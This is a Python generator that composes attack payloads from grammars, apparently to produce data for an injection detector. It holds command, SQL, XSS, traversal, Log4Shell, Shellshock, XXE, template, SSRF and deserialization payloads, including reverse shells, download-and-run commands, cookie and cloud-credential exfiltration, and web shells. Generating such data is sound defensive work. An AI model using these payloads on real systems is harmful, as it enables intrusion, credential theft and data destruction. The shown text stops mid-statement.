"""Attack payloads of our own, from small grammars, for the classes the public lists barely hold.

payload(rng) returns (class, text). The productions follow the public
documentation of the languages they abuse; nothing is taken from a test list.
"""

import random
import string

from mutations import EVENTS, TAGS

COMMANDS = ("id", "whoami", "uname -a", "cat /etc/passwd", "cat /etc/shadow", "ls -la /", "ifconfig", "netstat -an", "ps aux", "env", "pwd", "hostname",
            "sleep {n}", "ping -c {n} {ip}", "nslookup {host}", "curl http://{host}/{w}", "wget http://{host}/{w}.sh -O /tmp/{w}", "curl http://{host}/{w}|sh",
            "wget -qO- {host}/{w} | bash", "nc -e /bin/sh {ip} {port}", "bash -i >& /dev/tcp/{ip}/{port} 0>&1", "/bin/cat /etc/passwd", "rm -rf /tmp/{w}",
            "echo {w}", "echo {w} > /tmp/{w2}", "touch /tmp/{w}", "/usr/bin/id", "/bin/bash -c 'id'", "python -c 'import os;os.system(\"id\")'", "perl -e 'print {n}*{n}'", "busybox nc {ip} {port}",
            "cat${{IFS}}/etc/passwd", "c'a't /etc/pa''sswd", "/???/c?t /???/p??s??", "cat</etc/passwd", "{{cat,/etc/passwd}}", "$(printf 'id')", "sysinfo", "net view", "print('{w}')", "${w}/bin${w}/cat${w} ${w}/etc${w}/passwd${w}", "$u/bin$u/cat$u $u/etc$u/passwd$u", "telnet {ip} {port}", "head -n1 /etc/passwd")
WINDOWS = ("dir", "dir C:\\", "type C:\\boot.ini", "type C:\\Windows\\win.ini", "ipconfig /all", "net user", "net user {w} {w2} /add", "whoami", "ver", "systeminfo", "tasklist", "ping -n {n} {ip}",
           "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{host}/{w}.ps1')\"", "powershell -enc {b}", "certutil -urlcache -split -f http://{host}/{w}.exe {w}.exe", "cmd /c dir", "cmd.exe /c whoami", "nslookup {host}", "timeout {n}")
SEPARATORS = ("\n{c}", "\n{c}\n", "\n{c}|", "'\n{c}\n'", ";{c}", "; {c}", ";{c};", "|{c}", "| {c}", "||{c}", "|| {c}", "&{c}", "&& {c}", "& {c} &", "`{c}`", "$({c})", "\n{c}\n", "\r\n{c}", "%0a{c}", "%0A{c}%0A", "';{c};'", "\";{c};\"", "');{c};#", "|{c}||", "x;{c}", "127.0.0.1;{c}",
              "a.txt|{c}", "8.8.8.8 && {c}", "test`{c}`", "$({c})x", "1;{c}#", "\"|{c}|\"", "'|{c}|'", "{c}|", "&{c}&", "\";{c} #", "';{c} #", "<!--#exec cmd=\"{c}\"-->", "() {c}")
CODE = ("${{@print(\"{w}\")}}", "${{@print(md5({n}))}}", "@system({w});@", "print(`{c}`)", "{{@exec('{c}')}}", "<?php system('{c}'); ?>", "<?php echo shell_exec($_GET['{w}']);?>", "<?=`{c}`?>", "system('{c}');", "${{@system('{c}')}}", "passthru(\"{c}\")", "eval(base64_decode('{b}'))", "<?php @eval($_POST['{w}']);?>", "assert($_REQUEST['{w}'])", "phpinfo()", ";phpinfo();",
        "__import__('os').system('{c}')", "__import__('subprocess').check_output('{c}',shell=True)", "eval(compile('import os;os.popen(\"{c}\")','x','exec'))", "require('child_process').execSync('{c}')", "process.mainModule.require('child_process').exec('{c}')",
        "Runtime.getRuntime().exec(\"{c}\")", "new java.lang.ProcessBuilder(new String[]{{\"sh\",\"-c\",\"{c}\"}}).start()", "<% Runtime.getRuntime().exec(request.getParameter(\"{w}\")); %>", "system(\"{c}\")", "`{c}`", "IO.popen('{c}').read", "Kernel.exec('{c}')", "exec('{c}')", "os.system('{c}')",
        "<%eval request(\"{w}\")%>", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{w}\"],\"unsafe\");%>", "create_function('','{c}')", "preg_replace('/x/e','system(\"{c}\")','x')", "import os; os.system('{c}')", "global.process.mainModule.constructor._load('child_process').exec('{c}')")

TABLES = "users user accounts admin members customers information_schema.tables information_schema.columns mysql.user sysobjects all_tables pg_user sqlite_master orders cards".split()
COLUMNS = "password username,password user,pass email table_name column_name,2 @@version version() user() database() concat(user,0x3a,pass) group_concat(table_name) credit_card name,passwd,3 1,2,3 null,null,null load_file('/etc/passwd')".split()


def _word(rng):
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randrange(2, 9)))


def _fields(rng):
    return {"n": rng.randrange(1, 30), "w": _word(rng), "w2": _word(rng), "port": rng.randrange(80, 65000),
            "ip": rng.choice(("127.0.0.1", f"10.0.{rng.randrange(256)}.{rng.randrange(256)}", f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)}")),
            "host": rng.choice((f"{_word(rng)}.{rng.choice(('com', 'net', 'xyz', 'io', 'ru', 'example.com'))}", f"{_word(rng)}.{_word(rng)}.{rng.choice(('com', 'me', 'fun', 'org'))}", f"10.{rng.randrange(256)}.0.{rng.randrange(256)}:{rng.randrange(80, 9999)}")),
            "b": "".join(rng.choice(string.ascii_letters + string.digits + "+/") for _ in range(rng.randrange(8, 60)))}


def _case(text, rng):
    """Random letter case, as evasion does; mostly left alone."""
    draw = rng.random()
    if draw < 0.6:
        return text
    if draw < 0.75:
        return text.lower()
    if draw < 0.88:
        return text.upper()
    return "".join(char.upper() if rng.random() < 0.5 else char.lower() for char in text)


def cmdi(rng):
    if rng.random() < 0.25:
        command = rng.choice(COMMANDS).format(**_fields(rng))
        return rng.choice(CODE).format(c=command, **_fields(rng))
    command = rng.choice(COMMANDS if rng.random() < 0.75 else WINDOWS).format(**_fields(rng))
    if rng.random() < 0.1:
        command += rng.choice(("; ", " && ", " | ")) + rng.choice(COMMANDS).format(**_fields(rng))
    return rng.choice(SEPARATORS).format(c=command)


def sqli(rng):
    quote = rng.choice(("'", "'", "'", "\"", "", "')", "'))", "\")", "%'", "`", "\\'", "')))", "1", "-1", "-1'", "1'", "0", "admin'", "x'", "1)", "a' "))
    number, other = rng.randrange(1, 9999), rng.randrange(1, 9999)
    gap = rng.choice((" ",) * 8 + ("/**/", "+", "\t", "\n", "%20", "/*x*/", "%0a", "%09"))
    end = rng.choice(("--", "-- ", "-- -", "#", "/*", ";--", "", "", "--+", ";%00", "%23", f" AND '{_word(rng)}'='{_word(rng)}"))
    letter = rng.choice("abcxyz1")
    truth = rng.choice((f"{number}={number}", "1=1", f"'{letter}'='{letter}", f"'{number}'='{number}'", "true", f"{number}>{number - 1}", f"{number}<>{number + 1}", f"'{letter}' LIKE '{letter}", f"\"{letter}\"=\"{letter}", "1=1 LIMIT 1", "NOT 1=2", "2>1", f"{number} BETWEEN {number - 1} AND {number + 1}", "''=''", "1", "1=2", f"{number}={other}"))
    select = f"SELECT {rng.choice(COLUMNS)} FROM {rng.choice(TABLES)}"
    nulls = ",".join(rng.choice(("NULL", "NULL", str(i + 1), "@@version", "user()")) for i in range(rng.randrange(1, 9)))
    body = rng.choice((
        f"OR {truth}", f"OR {truth}", f"AND {truth}", f"|| {truth}", f"&& {truth}", f"OR {truth}", f"XOR {truth}", f"AND NOT {truth}",
        f"UNION SELECT {nulls}", f"UNION ALL SELECT {nulls}", f"UNION {select}", f"UNION ALL {select}", f"UNION/*!50000SELECT*/ {nulls}", f"UNION DISTINCT SELECT {nulls} FROM {rng.choice(TABLES)}",
        f"AND SLEEP({rng.randrange(1, 20)})", f"OR SLEEP({rng.randrange(1, 20)})", f"; WAITFOR DELAY '0:0:{rng.randrange(1, 20)}'", f"AND (SELECT * FROM (SELECT(SLEEP({rng.randrange(1, 9)}))){_word(rng)})", f"; SELECT PG_SLEEP({rng.randrange(1, 20)})", f"AND BENCHMARK({number}000,MD5({number}))",
        f"; DROP TABLE {rng.choice(TABLES)}", f"; DELETE FROM {rng.choice(TABLES)}", f"; INSERT INTO {rng.choice(TABLES)} VALUES ({number},'{_word(rng)}')", f"; UPDATE {rng.choice(TABLES)} SET password='{_word(rng)}'", "; EXEC xp_cmdshell('dir')", "; EXEC master..xp_dirtree '\\\\\\\\x'", "; SHUTDOWN",
        f"ORDER BY {rng.randrange(1, 40)}", f"GROUP BY {number} HAVING 1=1", f"HAVING 1=1", f"AND ({select} LIMIT 1)={number}", f"AND ASCII(SUBSTRING(({select} LIMIT 0,1),{rng.randrange(1, 9)},1))>{rng.randrange(32, 126)}", f"AND EXTRACTVALUE({number},CONCAT(0x7e,({select})))", f"AND UPDATEXML(1,CONCAT(0x7e,USER()),1)",
        f"AND (SELECT COUNT(*) FROM {rng.choice(TABLES)})>0", f"PROCEDURE ANALYSE()", f"INTO OUTFILE '/var/www/{_word(rng)}.php'", f"AND 1=CONVERT(INT,(SELECT @@version))", f"AND 1=CAST(({select}) AS INT)", f"AND CTXSYS.DRITHSX.SN({number},({select}))", f"OR EXISTS({select})", f"RLIKE (SELECT (CASE WHEN ({truth}) THEN 1 ELSE 0x28 END))",
        f"AND IF({truth},SLEEP({rng.randrange(1, 9)}),0)", f"OR BENCHMARK({number}0000,MD5(1))", f"{select} LIMIT 1", f"SELECT LOAD_FILE(CONCAT(0x5c5c5c5c,VERSION(),0x2e{number}))", f"ORDER BY SLEEP({rng.randrange(1, 9)})", f"AND LEN(@@servername)>{number % 9}", f"OR {_word(rng)}_id IS NOT NULL", f"|| {_word(rng)} IS NOT NULL", f"SLEEP({rng.randrange(1, 20)})='", f"; EXEC MASTER..XP_CMDSHELL 'ping {number}'", f"; DECLARE @q VARCHAR(200) SELECT @q=0x{number}00{other} EXEC(@q)", f"AND CONVERT(INT,@@servername)", f"LIKE '%{_word(rng)}%'", f"OR {number} IN (SELECT @@version)", f"AND 1 IN ({select})", f"AND ROW(1,1)>(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND()*2)) x FROM {rng.choice(TABLES)} GROUP BY x)", f"; DROP TABLE {_word(rng)}", f"OR username LIKE '%{_word(rng)}'", f"AND EXP(~(SELECT * FROM ({select})a))", f"AND JSON_KEYS((SELECT CONVERT(({select}) USING utf8)))", f"UNION VALUES ROW({nulls})", f"; CALL SYS.{_word(rng)}()", f"OR 1 GROUP BY CONCAT(VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)", f"; DECLARE @q VARCHAR(99);SET @q='{_word(rng)}';EXEC(@q)"))
    if rng.random() < 0.06:
        return _case(rng.choice((select, f"{select} WHERE {truth}", f"DROP TABLE {rng.choice(TABLES)};", "admin'--", "admin' #", "' OR ''='", "'='", "' or '", "'-'", "'^'", "'&'", "1' or '1'='1", "') or ('1'='1--", "1;SELECT 1", "'; --", "'||'1'||'", "@@version", "1/0--")), rng)
    joint = " " if rng.random() < 0.85 or not quote else ""
    return _case((quote + joint + body + end).replace(" ", gap), rng)



def _script(rng):
    """Any JavaScript: what runs matters less than that it runs."""
    a, b = _word(rng), _word(rng)
    return rng.choice((f"{a}()", f"{a}({rng.randrange(99)})", f"{a}.{b}()", f"[{rng.randrange(9)}].{rng.choice(('some', 'map', 'find', 'every', 'forEach', 'filter', 'sort'))}({rng.choice(('alert', 'confirm', 'prompt', a))})", f"{rng.choice(('alert', 'confirm', 'prompt', 'print'))}``", f"{a}=1",
                       f"window.{a}={b}", f"location='//{a}.{b}'", f"new Image().src='//{a}.{b}/?'+document.cookie", f"with(document)body.appendChild(createElement('script')).src='//{a}.{b}'", f"setTimeout('{a}()',{rng.randrange(999)})", f"Function('{a}()')()", f"this[{rng.choice((chr(39) + 'alert' + chr(39), '/*x*/' + chr(34) + 'al' + chr(34) + '+' + chr(34) + 'ert' + chr(34)))}](1)",
                       f"{rng.choice(('alert', 'confirm', 'prompt'))}({rng.choice((chr(39) + a + chr(39), chr(34) + a + chr(34), 'location', 'origin', '/' + a + '/.source', str(rng.randrange(9999)), 'document.domain', 'window.name'))})", f"a=alert,a(1)", f"{{onerror=alert}}throw 1", f"$({chr(39)}#{a}{chr(39)}).html(1)", f"document.body.innerHTML='{a}'", "&#97;&#108;&#101;&#114;&#116;&#40;1&#41;", "al&#x65;rt(1)", "\\u{61}lert(1)", f"navigator.sendBeacon('//{a}.{b}',document.cookie)", f"parent.postMessage('{a}','*')", "debugger", "self[`al`+`ert`]`1`", "Reflect.apply(alert,null,[1])", "eval.call`${'alert\\x281)'}`"))


def xss(rng):
    call = _script(rng) if rng.random() < 0.45 else rng.choice(("alert(1)", "alert(document.cookie)", "alert`1`", "prompt(1)", "confirm(document.domain)", f"alert('{_word(rng)}')", "eval(atob('YWxlcnQoMSk='))", f"fetch('//{_word(rng)}.com/?c='+document.cookie)", f"document.location='http://{_word(rng)}.com/'+document.cookie",
                       "window['al'+'ert'](1)", "top[/al/.source+/ert/.source](1)", "alert(String.fromCharCode(88,83,83))", "import('//x.y')", "location=name", "[1].find(alert)", "(alert)(1)", "eval(location.hash.slice(1))", "print()", "document.write('<x>')", "self['ale'+'rt'](1)", "$.getScript('//x.y/z')", "\\u0061lert(1)", "new Function`al\\ert\\`1\\``", "throw onerror=alert,1"))
    tag, event = rng.choice(TAGS), rng.choice(EVENTS)
    quote = rng.choice(("", "'", "\""))
    gap = rng.choice((" ", " ", " ", "/", "\n", "\t", "%09", "/x/", "  "))
    text = rng.choice((
        f"<script>{call}</script>", f"<script>{call}</script>", f"<script src=//{_word(rng)}.{_word(rng)}/x.js></script>", f"<script src={quote}http://{_word(rng)}.com/{_word(rng)}.js{quote}></script>", f"<script >{call}</script >", f"<script/{_word(rng)}>{call}</script>", f"</script><script>{call}</script>", f"<scr<script>ipt>{call}</scr</script>ipt>",
        f"<{tag}{gap}{event}={quote}{call}{quote}>", f"<{tag}{gap}{event}={quote}{call}{quote}>", f"<{tag} src=x{gap}{event}={quote}{call}{quote}>", f"<{tag}{gap}{event}={quote}{call}{quote} autofocus tabindex=1>", f"<{tag}{gap}{event}={call}//", f"<{tag} {_word(rng)}={_word(rng)}{gap}{event} = {quote}{call}{quote}/>",
        f"<img src=x onerror={call}>", f"<svg/onload={call}>", f"<svg><script>{call}</script></svg>", f"<svg><animate onbegin={call} attributeName=x dur=1s>", f"<a href={quote}javascript:{call}{quote}>{_word(rng)}</a>", f"javascript:{call}", f"javascript:{call}//", f"jav\tascript:{call}", f"data:text/html,<script>{call}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"<iframe src={quote}javascript:{call}{quote}>", f"<iframe srcdoc={quote}<script>{call}</script>{quote}>", f"<object data={quote}javascript:{call}{quote}>", f"<form action=javascript:{call}><button>x", f"<base href=//{_word(rng)}.com>", f"<meta http-equiv=refresh content={quote}0;url=javascript:{call}{quote}>", f"<link rel=import href=//{_word(rng)}.com>", f"<math><a xlink:href=javascript:{call}>x",
        f"{event}={quote}{call}{quote}", f"{_word(rng)} {event}={call} {_word(rng)}=", f"';{call};//", f"\";{call};//", f"'-{call}-'", f"\"-{call}-\"", f"\\';{call};//", f"${{{call}}}", f"{{{{constructor.constructor('{call}')()}}}}", f"{{{{$on.constructor('{call}')()}}}}", f"<!--><{tag} {event}={call}>", f"<x contenteditable {event}={call}>x", f"<style>@import '//{_word(rng)}.com';</style>", f"expression({call})", f"<div style={quote}width:expression({call}){quote}>"))
    if rng.random() < 0.4:
        text = rng.choice(("\">", "'>", "</title>", "</textarea>", "\"/>", ">", "--></style>", "'\"><", "\" ", "' ", "]]>", "</script>", "1\">", "*/", "%22%3E")) + text
    return _case(text, rng) if "atob" not in text and rng.random() < 0.4 else text


FILES = ("etc/passwd", "etc/passwd", "etc/shadow", "etc/hosts", "etc/issue", "proc/self/environ", "proc/version", "windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "WEB-INF/web.xml", "var/log/apache2/access.log", "root/.ssh/id_rsa", "home/{w}/.bash_history", "etc/nginx/nginx.conf", ".env", "config.php", "wp-config.php", ".git/config", "etc/group", "proc/self/cmdline", "windows/system.ini", "inetpub/wwwroot/web.config", "usr/local/apache/conf/httpd.conf", "etc/mysql/my.cnf")


DOTS = (".", ".", "%2e", "%252e", "0x2e", "%c0%ae", "%c0%2e", "%c0.", "?", "%uff0e", "%u002e", "%e0%80%ae", "%e0%40%ae", "%f0%80%80%ae", "%f8%80%80%80%ae", "%fc%80%80%80%80%ae", "%%32%65", "%25c0%25ae", ".%00", "%c0%fe", "%01.", "\\.", "%3F", "%ae", "%5c.", "%ff.", ".%01", "\uff0e")
SLASHES = ("/", "/", "\\", "%2f", "%5c", "%252f", "%255c", "0x2f", "0x5c", "%c0%af", "%c1%9c", "%c0%2f", "%c0%5c", "%c0%9v", "%c0%qf", "%bg%qf", "%c1%1c", "%c1%af", "%c1%8s", "%c1%pc", "%u2215", "%u2216", "%uEFC8", "%uF025", "%uff0f", "%e0%80%af", "%f0%80%80%af", "%f8%80%80%80%af", "%fc%80%80%80%80%af", "%%32%66", "%%35%63", "%25c0%25af", "%5c%5c", "//", "\\\\", "%2f%2f", "/.\\", "%c0/", "%c0\\", "\u2215", "%af")


def odd_traversal(rng):
    """Dots and slashes in any of the encodings that path fuzzers try, also in the file's own path."""
    first = rng.choice(DOTS)
    second = first if rng.random() < 0.7 else rng.choice(DOTS)
    slash = rng.choice(SLASHES)
    file = rng.choice(FILES).format(w=_word(rng)) if rng.random() < 0.6 else rng.choice(("etc/passwd", "etc/issue", "boot.ini", "windows/system32/drivers/etc/hosts", "windows/win.ini", "etc/shadow"))
    return rng.choice(("", "", "", "/", slash)) + (first + second + slash) * rng.randrange(2, 11) + file.replace("/", slash if rng.random() < 0.85 else "/")


def traversal(rng):
    file = rng.choice(FILES).format(w=_word(rng))
    if rng.random() < 0.22:
        return rng.choice(("/{f}", "file:///{f}", "php://filter/convert.base64-encode/resource={f}", "php://filter/read=string.rot13/resource=/{f}", "expect://id", "zip://{w}.zip%23{w}.php", "phar://{w}.phar", "/{f}%00", "C:\\{b}", "/%2e/%2e%2e/{f}", "\\\\{w}\\c$\\{b}", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==", "/proc/self/fd/{n}", "php://input", "netdoc:///{f}", "jar:file:///{f}!/x", "file://localhost/{f}")).format(f=file, w=_word(rng), b=file.replace("/", "\\"), n=rng.randrange(40))
    if rng.random() < 0.4:
        return odd_traversal(rng)
    unit = rng.choice(("../", "../", "../", "../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "..;/", "..%252f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%u2215", "..././", "....\\/", "..//", "/../", "..%00/", ".%2e/", "..%ef%bc%8f", "..\\/", "%uff0e%uff0e/", "..%255c", ".../.../", "..%c1%9c"))
    text = rng.choice(("", "", "", "/", "./", "images/", "/var/www/html/", "C:\\", "file:///", "static/", "....//")) + unit * rng.randrange(1 if "etc" in file else 2, 11)
    file = file if rng.random() < 0.8 else file.replace("/", rng.choice(("%2f", "\\", "//", "/./", "%5c")))
    return text + file + rng.choice(("", "", "", "", "%00", "%00.jpg", "\x00.html", "?", "#", ".", "/.", "%00.php", ";.css"))


def log4shell(rng):
    scheme = rng.choice(("ldap", "ldap", "ldaps", "rmi", "dns", "iiop", "http", "corba", "nis"))
    host = _fields(rng)["host"]

    def scatter(text):
        out = ""
        for char in text:
            draw = rng.random()
            letters = _word(rng)
            if draw < 0.55:
                out += char
            elif draw < 0.65:
                out += "${lower:" + char + "}"
            elif draw < 0.75:
                out += "${upper:" + char + "}"
            elif draw < 0.87:
                out += "${::-" + char + "}"
            elif draw < 0.94:
                out += "${env:" + letters.upper() + ":-" + char + "}"
            else:
                out += "${" + rng.choice(("sys", "date", "main", "ctx")) + ":" + letters + ":-" + char + "}"
        return out

    name, colon, rest = "jndi", ":", scheme
    if rng.random() < 0.55:
        name, rest = scatter(name), scatter(rest)
        if rng.random() < 0.3:
            colon = "${" + rng.choice(("::-", "env:X:-", "sys:x:-")) + ":}"
    leak = rng.choice(("", "", "", "${env:USER}.", "${sys:java.version}.", "${hostName}.", "${env:AWS_SECRET_ACCESS_KEY}."))
    text = "${" + name + colon + rest + "://" + leak + host + "/" + rng.choice(("a", "Exploit", "Basic/Command/Base64/d2hvYW1p", _word(rng), "${java:os}", "o=tomcat")) + "}"
    if rng.random() < 0.08:
        text = rng.choice(("${${env:x:-j}ndi", "${jn${env::-}di", "${${::-j}nd${::-i}", "${j${k8s:k5:-ND}i")) + text[text.find(":"):] if ":" in text else text
    return text if rng.random() < 0.9 else _case(text, rng)


def shellshock(rng):
    command = rng.choice(COMMANDS).format(**_fields(rng))
    command = rng.choice((command, f"/bin/bash -c '{command}'", f"echo; echo; /bin/{command}", f"echo Content-Type: text/plain; echo; {command}", f"/bin/sh -c \"{command}\"", f"echo {_word(rng)}: $(</etc/passwd)"))
    return rng.choice(("() {{ :;}}; {c}", "() {{ :; }}; {c}", "() {{ ignored; }}; {c}", "() {{ :;}};{c}", "() {{ _; }} >_[$($())] {{ {c}; }}", "(){{:;}};{c}", "() {{ test;}};{c}", "() {{ (a)=>\\' {c}", "() {{x;}}; {c}", "()  {{ :; }} ; {c} ;")).format(c=command)


def xxe(rng):
    word, entity, fields = _word(rng), rng.choice(("xxe", "x", "file", "ent", _word(rng))), _fields(rng)
    uri = rng.choice(("file:///" + rng.choice(FILES).format(w=word), f"http://{fields['host']}/{word}.dtd", "php://filter/read=convert.base64-encode/resource=index.php", f"ftp://{fields['host']}/{word}", "http://169.254.169.254/latest/meta-data/", "expect://id", f"jar:http://{fields['host']}!/{word}", "file:///c:/windows/win.ini", f"gopher://{fields['host']}/_{word}"))
    kind = rng.choice(("SYSTEM", "SYSTEM", "SYSTEM", f"PUBLIC \"{word}\""))
    quote = rng.choice("\"\"'")
    head = rng.choice(("", "<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", "<?xml version='1.0' encoding='ISO-8859-1'?>\r\n"))
    dtd = rng.choice((
        f"<!DOCTYPE {word} [<!ENTITY {entity} {kind} {quote}{uri}{quote}>]>", f"<!DOCTYPE {word} [\n <!ELEMENT {word} ANY>\n <!ENTITY {entity} {kind} {quote}{uri}{quote}>\n]>", f"<!DOCTYPE {word} {kind} {quote}{uri}{quote}>", f"<!DOCTYPE {word} [<!ENTITY % {entity} {kind} {quote}{uri}{quote}> %{entity};]>",
        f"<!DOCTYPE {word} [<!ENTITY % {entity} {kind} {quote}{uri}{quote}><!ENTITY % all \"<!ENTITY send SYSTEM 'http://{fields['host']}/?%{entity};'>\">%all;]>", f"<!DOCTYPE lolz [<!ENTITY a \"{word}\"><!ENTITY b \"&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;\">]>"))
    tail = rng.choice((f"<{word}>&{entity};</{word}>", f"<{word}><user>&{entity};</user><pass>{word}</pass></{word}>", f"<{word}/>", f"<soap:Body><{word}>&{entity};</{word}></soap:Body>"))
    if rng.random() < 0.1:
        return f"<{word} xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{uri}\"/></{word}>"
    return head + dtd + tail


def other(rng):
    """Injections without a class of their own: templates, LDAP, XPath, NoSQL, headers, mail, SSI, server-side requests, objects."""
    fields, word, number = _fields(rng), _word(rng), rng.randrange(2, 9999)
    command = rng.choice(COMMANDS).format(**fields)
    family = rng.randrange(10)
    if family == 0:
        inner = rng.choice((f"{number}*{number + 1}", f"{number}*'{number}'", "config.items()", "''.__class__.__mro__[1].__subclasses__()", f"self.__init__.__globals__.__builtins__.__import__('os').popen('{command}').read()", f"request.application.__globals__.__builtins__.__import__('os').popen('{command}').read()", f"['{command}']|filter('system')", f"_self.env.registerUndefinedFilterCallback('exec')", f"cycler.__init__.__globals__.os.popen('{command}').read()", "config.__class__.__init__.__globals__", f"lipsum.__globals__['os'].popen('{command}').read()", f"T(java.lang.Runtime).getRuntime().exec('{command}')"))
        return rng.choice(("{{{{{i}}}}}", "{{{{{i}}}}}", "${{{i}}}", "<%= {i} %>", "#{{{i}}}", "*{{{i}}}", "{{%{i}%}}", "@({i})", "{{{i}}}", "${{{{{i}}}}}", "{{{{={i}}}}}", "<%={i}%>", "[[${{{i}}}]]", "%{{{i}}}")).format(i=inner)
    if family == 1:
        return rng.choice((f"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ex(\"{command}\")}}", f"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('{command}')", f"%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{command}')}}", f"${{(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"{command}\").getInputStream()))}}", f"{{php}}system('{command}');{{/php}}", f"{{{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('{command}')\")()}}}}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", f"${{T(java.lang.Runtime).getRuntime().exec(\"{command}\")}}", f"{{{{'{word}'.getClass().forName('java.lang.Runtime')}}}}", "%{{#context['xwork.MethodAccessor.denyMethodExecution']=false}}"))
    if family == 2:
        return rng.choice((f"*)(uid=*))(|(uid=*", f"*)(|(&", f"admin)(&)", f"*)(objectClass=*", f"{word})(cn=*))%00", f"*()|&'", f"admin)(!(&(1=0", f"*)(userPassword=*)", f"(&(uid={word})(userPassword=*))", f"{word}*)(mail=*))(|(mail=*", "*))%00", f")(cn=))\\x00", f"|(uid={word})(!(cn=*"))
    if family == 3:
        return rng.choice((f"' or count(/*)=1 or 'a'='b", f"'] | //* | //*['", f"x' or name()='{word}' or 'x'='y", f"' or string-length(name(/*[1]))={number} or ''='", f"//user[name/text()='' or '1' = '1' and password/text()='' or '1' = '1']", f"') or substring(//user[{number}]/child::node()[1],1,1)='a", f"count(/child::node())", f"1 or contains(name,'{word}')", f"' and doc('http://{fields['host']}/')", f"\"] | //password | //foo[bar=\""))
    if family == 4:
        return rng.choice(("{\"$gt\":\"\"}", "{\"$ne\":null}", f"{{\"$regex\":\"^{word}\"}}", f"{{\"$where\":\"sleep({number})\"}}", f"'; return true; var x='", f"' || '1'=='1", f"';sleep({number});'", "true, $where: '1 == 1'", f"{{\"$or\":[{{}},{{\"{word}\":\"1\"}}]}}", "', $or: [ {}, { 'a':'a", f"db.users.find({{}})", "[$ne]=1", f"$where: function() {{ return this.{word} }}", "{\"username\":{\"$ne\":\"\"},\"password\":{\"$ne\":\"\"}}", "1, $where: '1 == 1'", "db.injection.insert({success:1});", f"this.{word}.match(/.*/)//+%00"))
    if family == 5:
        eol = rng.choice(("\r\n", "\r\n", "\n", "%0d%0a", "%0D%0A", "%E5%98%8A%E5%98%8D", "\r"))
        return word + eol + rng.choice((f"Set-Cookie: {word}={number}", f"Location: http://{fields['host']}/", f"X-Injected: {word}", f"Content-Length: 0{eol}{eol}HTTP/1.1 200 OK{eol}Content-Type: text/html{eol}{eol}<html>{word}</html>", f"Bcc: {word}@{word}.com", f"cc:{word}@{word}.com{eol}Subject: {word}", f"To: {word}@{word}.net{eol}{eol}{word}", f"RCPT TO:<{word}@{word}.com>{eol}DATA{eol}{word}{eol}.", f"V{number} CAPABILITY{eol}V{number} LOGOUT", f"QUIT{eol}", f"X-XSS-Protection:0{eol}{eol}<script>alert(1)</script>"))
    if family == 6:
        return rng.choice((f"<!--#exec cmd=\"{command}\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#include file=\"../../web.config\" -->", "<!--#echo var=\"DOCUMENT_ROOT\" -->", "<!--#printenv -->", f"<esi:include src=\"http://{fields['host']}/{word}\"/>", f"<!--#config errmsg=\"{word}\"-->", f"<!--#exec cgi=\"/cgi-bin/{word}.sh\"-->", "<esi:vars>$(HTTP_COOKIE)</esi:vars>", f"<!--#fsize file=\"{word}\"-->", f"<pre><!--#exec cmd=\"{command}\" --></pre>"))
    if family == 7:
        return rng.choice(("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/", f"gopher://127.0.0.1:6379/_{word}%0d%0a", f"dict://127.0.0.1:{fields['port']}/info", "http://[::1]:22/", "http://2130706433/", "http://0x7f000001/", f"http://127.0.0.1:{fields['port']}/admin", f"http://localhost:{fields['port']}/server-status", "http://100.100.100.200/latest/meta-data/", f"ldap://127.0.0.1:389/%0astats%0aquit", f"sftp://{fields['host']}:11111/", f"tftp://{fields['ip']}:12346/TESTUDPPACKET", f"http://127.0.0.1@{fields['host']}/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", f"http://{fields['host']}/{rng.choice(('r57', 'c99', 'shell', 'cmd', 'phpshell'))}.txt?", f"http://{fields['host']}/{word}.php?cmd=id", f"http://{fields['host']}/{word}.txt??", f"http://{fields['host']}/{word}??", f"ftp://{fields['host']}/{word}.php?", "netdoc:///etc/passwd", "http://0.0.0.0:80", "http://127.1/"))
    if family == 8:
        return rng.choice((f"O:{number % 20 + 1}:\"{word}\":1:{{s:{len(word)}:\"{word}\";s:{len(command)}:\"{command}\";}}", f"a:1:{{i:0;O:8:\"stdClass\":1:{{s:3:\"cmd\";s:2:\"id\";}}}}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw", f"cos\nsystem\n(S'{command}'\ntR.", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + fields["host"] + "\"]]]]", f"!!python/object/apply:os.system [\"{command}\"]", f"{{\"rce\":\"_$$ND_FUNC$$_function(){{require('child_process').exec('{command}')}}()\"}}", f"{{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://{fields['host']}/{word}\",\"autoCommit\":true}}", "{\"__proto__\":{\"isAdmin\":true}}", f"__proto__[{word}]=1", f"constructor[prototype][{word}]={word}", f"{{\"constructor\":{{\"prototype\":{{\"{word}\":1}}}}}}", "--- !ruby/object:Gem::Installer\ni: x", 